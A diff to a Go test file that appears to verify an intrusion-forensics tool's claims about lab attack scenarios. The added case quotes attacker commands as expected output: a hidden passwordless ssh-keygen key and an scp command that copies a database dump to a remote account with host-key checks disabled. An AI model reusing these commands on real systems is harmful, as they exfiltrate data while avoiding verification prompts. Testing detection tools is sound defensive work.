@@ -59,6 +59,17 @@ func TestLabClaims(t *testing.T) {
 			[]string{"rotate the key it is a copy of",
 				// the nc -z probe of port 22 at 10:46:37 opened no session
 				"opened by pid 1259 (nc.openbsd)"}},
+		{"news-deser",
+			[]string{
+				// ssh-keygen[12864] -f /var/tmp/.nk ran in the chain's
+				// tree (serial 35958), a child of the beacon's task shell
+				"made by `ssh-keygen -q -t ed25519 -N '' -C backup@newsroom -f /var/tmp/.nk`",
+				// scp's remote operand is labremote@127.0.0.1:drop/news-db.sql
+				`"kind":"account","what":"labremote@127.0.0.1"`},
+			[]string{
+				// /var/tmp/.n.sql is scp's local source file, no account
+				`"what":"/var/tmp/.n.sql","detail":"the target of a login attempt`,
+				"/var/tmp/.nk — used by `scp -q -i /var/tmp/.nk -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null /var/tmp/.n.sql labremote@127.0.0.1:drop/news-db.sql` by scp[12937] at 18:23:14 UTC; no record shows"}},
 		{"webshell-variant",
 			[]string{`"kind":"key","what":"/home/webapp/.ssh/authorized_keys","detail":"written by dash[21588] at 14:01:17 UTC: remove the keys the intruder added"`},
 			[]string{"key the intruder made or used", "file     /home/webapp/.ssh/authorized_keys"}},
